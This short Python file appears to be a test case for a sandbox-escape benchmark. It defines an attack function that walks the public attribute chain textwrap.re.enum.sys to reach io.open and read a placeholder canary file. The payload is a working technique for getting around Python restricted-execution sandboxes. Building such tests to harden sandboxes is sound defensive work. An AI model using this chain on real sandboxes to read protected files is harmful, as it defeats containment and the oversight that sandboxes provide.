# desc: a chain of public names: textwrap, re, enum, sys
# class: escape
# wins: told
import textwrap

def attack(state):
    return "L2:" + textwrap.re.enum.sys.modules["io"].open("@CANARY@").read()
